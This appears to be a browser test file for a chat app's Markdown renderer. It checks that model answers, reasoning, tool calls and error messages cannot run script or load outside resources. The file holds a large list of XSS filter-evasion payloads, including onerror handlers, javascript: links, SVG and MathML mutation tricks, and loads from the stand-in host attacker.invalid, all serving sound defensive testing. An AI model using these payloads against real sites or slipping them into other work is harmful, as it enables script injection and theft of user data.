/**
 * Whatever a model writes, nothing of it runs and nothing is loaded: a list of attacks, shown by the real page in a real browser. The
 * model is a server of ours that answers what the test says.
 */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { type LocalServer, startLocalServer } from "../../bench/local-server.ts";
import type { Answer } from "../../bench/server-answer.ts";
import { BROWSER_TEST_MS } from "../support/browser.ts";
import { eventually, webTest } from "../support/web-page.ts";

// The functions given to the page run there.
declare const window: { hit?: unknown };
declare const document: {
  querySelectorAll: (selector: string) => Iterable<{
    tagName: string;
    getAttributeNames: () => string[];
    getAttribute: (name: string) => string;
    outerHTML: string;
  }>;
};

const OUT = "http://attacker.invalid";
const RUN = "window.hit=1";
const FENCE = "```";

/** Attacks in Markdown and HTML. Sources: OWASP's XSS filter evasion cheat sheet, DOMPurify's and marked's own tests (2026-11), and what page and server do of their own. */
const ATTACKS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${OUT}/x.js"></script>`,
  `<SCRIPT/SRC="${OUT}/x.js"></SCRIPT>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${OUT}/pixel.png">`,
  `<img/src=x/onerror=${RUN}>`,
  `words <img src=x onerror=${RUN}> more words`,
  `<img src="x" srcset="${OUT}/a.png 1x">`,
  `<picture><source srcset="${OUT}/p.png"><img src=x onerror=${RUN}></picture>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"></use></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<iframe src="${OUT}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${OUT}/e.swf">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video autoplay onloadstart="${RUN}" src="${OUT}/v.mp4"><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<meta http-equiv="refresh" content="0;url=${OUT}/gone">`,
  `<base href="${OUT}/"><a href="x">relative</a>`,
  `<link rel="stylesheet" href="${OUT}/s.css"><link rel="preload" as="image" href="${OUT}/l.png">`,
  `<style>@import "${OUT}/i.css"; body{background:url(${OUT}/b.png)}</style>`,
  `<p style="position:fixed;inset:0;background:url(${OUT}/s.png)">over all</p>`,
  `<b style="background:url(${OUT}/s2.png)" onmouseover="${RUN}">bold</b>`,
  `<form action="${OUT}/f"><button formaction="javascript:${RUN}">x</button></form>`,
  `<a href="javascript:${RUN}">a</a> <a href=" &#106;avascript:${RUN}">b</a>`,
  `<div id="app" name="getElementById">clobber</div><a id="location"></a><img name="body">`,
  `<button popovertarget="x" type="button">x</button><div id="x" popover onbeforetoggle="${RUN}">y</div>`,
  `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](javascript&colon;${RUN}) [d](java\nscript:${RUN})`,
  `[a](data:text/html,<script>opener.hit=1</script>) [b](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)`,
  `[a](vbscript:x) [b](blob:${OUT}/x) [c](file:///etc/passwd) [d](//attacker.invalid/x) [e](/api/state)`,
  `[a](<javascript:${RUN}>) [b](\u0001javascript:${RUN}) [c](%6aavascript:${RUN})`,
  `[a][1]\n\n[1]: javascript:${RUN} "title"`,
  `[a](https://example.com" onmouseover="${RUN}) [b](https://example.com 'x" onmouseover="${RUN}')`,
  `![a](${OUT}/md.png) ![b](x" onerror="${RUN}) ![c](javascript:${RUN}) ![](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `![" onerror="${RUN}](${OUT}/alt.png)`,
  `![<img src=x onerror=${RUN}>](${OUT}/alt2.png)`,
  `[<img src=x onerror=${RUN}>](https://example.com)`,
  `<https://example.com/"onmouseover="${RUN}"> <javascript:${RUN}>`,
  `https://example.com/"onmouseover="${RUN}" www.example.com/<img/src=x/onerror=${RUN}>`,
  `\`<img src=x onerror=${RUN}>\` and \`\` \`</code><img src=x onerror=${RUN}> \`\``,
  `${FENCE}html\n<img src=x onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n${FENCE}`,
  `${FENCE}"><img src=x onerror=${RUN}>\ncode\n${FENCE}`,
  `${FENCE}svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${OUT}/in.png"/></svg>\n${FENCE}`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n| ${"`"}</td><script>${RUN}</script>${"`"} | <svg/onload=${RUN}> |`,
  `# <img src=x onerror=${RUN}>\n\n<h1 onclick="${RUN}">h</h1>\n\nsetext <script>${RUN}</script>\n===`,
  `- [ ] <input type=image src=x onerror=${RUN}>\n- <!--\n- --><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->\n\n<!-- --!><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>\n\n<?php echo '<img src=x onerror=${RUN}>' ?>`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  `<b>open <i>and never <code>closed <s>${"<q>".repeat(40)}`,
  `${"<b>".repeat(600)}deep<img src=x onerror=${RUN}>${"</b>".repeat(600)}`,
  `${"> ".repeat(300)}deep <img src=x onerror=${RUN}>`,
  `[__proto__]: javascript:${RUN}\n[constructor]: ${OUT}\n\n[__proto__] [constructor]`,
  `\u202e<img src=x onerror=${RUN}>\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<a href="https://example.com" target="_self" ping="${OUT}/ping" rel="opener">ping</a>`,
  `<custom-element onclick=${RUN} is="x-y">x</custom-element>`,
];

/** What may stand in what a model wrote; anything else in the document came through a hole. */
const MAY = new Set(
  (
    "A B BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR I IMG INS KBD LI MARK OL P PRE Q S SMALL SPAN STRONG " +
    "SUB SUP TABLE TBODY TD TH THEAD TR U UL"
  ).split(" "),
);
const MAY_HAVE = new Set([
  "href",
  "target",
  "rel",
  "title",
  "class",
  "tabindex",
  "role",
  "aria-label",
  "type",
  "start",
  "align",
]);

/** Elements and attributes in what models wrote that may not be there. */
async function holes(page: Page): Promise<string[]> {
  const found = await page.evaluate(() =>
    [...document.querySelectorAll(".markdown *")].map((element) => ({
      tag: element.tagName,
      names: element.getAttributeNames(),
      href: element.getAttribute("href"),
      target: element.getAttribute("target"),
      rel: element.getAttribute("rel"),
      html: element.outerHTML.slice(0, 200),
    })),
  );
  return found
    .filter(({ tag, names, href, target, rel }) => {
      if (!MAY.has(tag) || names.some((name) => !MAY_HAVE.has(name))) return true;
      if (tag !== "A") return href !== null;
      return !/^(https?:\/\/|mailto:)/.test(href) || target !== "_blank" || rel !== "noopener noreferrer";
    })
    .map(({ html }) => html);
}

let server: LocalServer;
let answer: Answer | string = "";

beforeAll(async () => {
  server = await startLocalServer({ behaviour: { answer: () => answer } });
});

afterAll(async () => {
  await server.close();
});

async function ask(page: Page, prompt: string, ended = 1): Promise<void> {
  await page.getByRole("textbox", { name: "Prompt", exact: true }).fill(prompt);
  await page.keyboard.press("Enter");
  await eventually(() => page.locator(".answer .figures").count()).toBeGreaterThanOrEqual(ended);
}

describe("what a model writes", () => {
  webTest(
    "never runs, loads nothing, and becomes only plain elements",
    { timeout: BROWSER_TEST_MS },
    async ({ web }) => {
      const { page, visit, problems } = await web();
      await visit(`/ask?${new URLSearchParams({ model: `${server.url}#attacker` })}`);
      for (const [index, attack] of ATTACKS.entries()) {
        answer = `Before.\n\n${attack}\n\nAfter.`;
        await ask(page, `attack ${index}`);
        await page.locator(".markdown .blocks").first().waitFor();
        expect(await holes(page), attack).toEqual([]);
        expect(await page.evaluate(() => window.hit), attack).toBeUndefined();
        expect(problems, attack).toEqual([]);
        await page.getByRole("link", { name: "New question" }).click();
        await page.locator(".answer").waitFor({ state: "detached" });
      }
    },
  );

  webTest(
    "never runs while it is being written either: all attacks in one answer, cut anywhere",
    { timeout: BROWSER_TEST_MS },
    async ({ web }) => {
      const { page, visit } = await web();
      answer = ATTACKS.join("\n\n");
      for (const name of ["bytes-7", "bytes-61"]) {
        await visit(`/ask?${new URLSearchParams({ model: `${server.url}#${name}` })}`);
        await ask(page, "all");
        expect(await holes(page)).toEqual([]);
        expect(await page.evaluate(() => window.hit)).toBeUndefined();
      }
    },
  );

  webTest("links and buttons that can be pressed run nothing", { timeout: BROWSER_TEST_MS }, async ({ web }) => {
    const { page, visit } = await web();
    answer = ATTACKS.filter((attack) => /\]\(|<a|button|\[a\]/.test(attack)).join("\n\n");
    await visit(`/ask?${new URLSearchParams({ model: `${server.url}#attacker` })}`);
    await ask(page, "links");
    // Every link leaves for the web or mail in a page of its own; nothing else can be pressed but our own buttons.
    const links = await page
      .locator(".markdown a")
      .evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
    for (const href of links) expect(new URL(href).protocol).toMatch(/^(https?|mailto):$/);
    const buttons = await page.locator(".markdown button").allInnerTexts();
    expect(buttons.every((text) => text === "Copy" || text === "Show picture")).toBe(true);
  });

  webTest(
    "a drawing is text until it is asked for, and then a picture in which nothing runs",
    { timeout: BROWSER_TEST_MS },
    async ({ web }) => {
      const { page, visit } = await web();
      const drawing = `<svg viewBox="0 0 40 40" onload="${RUN}"><script>${RUN}</script><image href="${OUT}/in.png"/><rect width="40" height="40" fill="teal"/></svg>`;
      answer = drawing;
      await visit(`/ask?${new URLSearchParams({ model: `${server.url}#painter` })}`);
      await ask(page, "draw");
      expect(await page.locator(".markdown pre").innerText()).toBe(drawing);
      await page.getByRole("button", { name: "Show picture" }).click();
      const picture = page.locator(".code-picture img");
      await expect
        .poll(() => picture.evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth))
        .toBeGreaterThan(0);
      expect(await page.evaluate(() => window.hit)).toBeUndefined();
      expect(await page.locator(".markdown svg").count()).toBe(0);
    },
  );

  webTest(
    "reasoning, tool calls and their arguments, warnings and the names of models are text",
    { timeout: BROWSER_TEST_MS },
    async ({ web, served }) => {
      const { page, visit } = await web();
      const tag = `<img src=x onerror=${RUN}>`;
      answer = {
        text: tag,
        reasoning: `${tag} [x](javascript:${RUN})`,
        calls: [{ name: "look", arguments: { where: tag, "<script>": `</pre><script>${RUN}</script>` } }],
      };
      await visit(`/ask?${new URLSearchParams({ model: `${server.url}#${tag}` })}`);
      await ask(page, `${tag}<script>${RUN}</script>`);
      await page.locator(".reasoning summary").click();
      await page.locator(".reasoning .markdown .blocks").waitFor();
      expect(await page.locator(".tool pre").innerText()).toContain("</pre><script>");
      expect(await page.locator(".column-head h2").innerText()).toContain("<img");
      expect(await holes(page)).toEqual([]);
      // A result that a tool gave, and a failure whose message is the provider's.
      const [user, result] = [
        { role: "user" as const, parts: [{ type: "text" as const, text: tag }] },
        {
          role: "tool" as const,
          parts: [{ type: "tool-result" as const, id: "1", name: "look", output: `${tag}<svg/onload=${RUN}>` }],
        },
      ];
      const called = {
        role: "assistant" as const,
        parts: [{ type: "tool-call" as const, id: "1", name: "look", input: {} }],
      };
      const call = await served.workbench.ask({ model: `${server.url}#x`, messages: [user, called, result] });
      await visit(`/ask/${call.id}`);
      await page.locator(".said.tool pre").waitFor();
      server.next([{ status: 400, body: { error: { message: `${tag}<script>${RUN}</script>` } } }]);
      const failed = await served.workbench.ask({ model: `${server.url}#x`, prompt: tag });
      await visit(`/ask/${failed.id}`);
      await page.getByRole("alert").waitFor();
      await visit(`/log/${failed.id}`);
      expect(await page.evaluate(() => window.hit)).toBeUndefined();
    },
  );
});
